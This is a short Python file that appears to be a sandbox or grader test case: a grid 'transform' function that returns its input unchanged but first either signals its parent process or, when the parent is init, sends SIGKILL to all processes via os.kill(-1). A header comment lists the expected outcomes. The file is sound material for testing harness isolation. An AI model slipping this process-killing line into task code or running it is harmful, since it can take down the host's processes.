# expects: answers | error PermissionError | error ProcessLookupError
import os
import signal


def transform(grid):
    os.kill(-1, signal.SIGKILL) if os.getppid() == 1 else os.kill(os.getppid(), 0)
    return grid
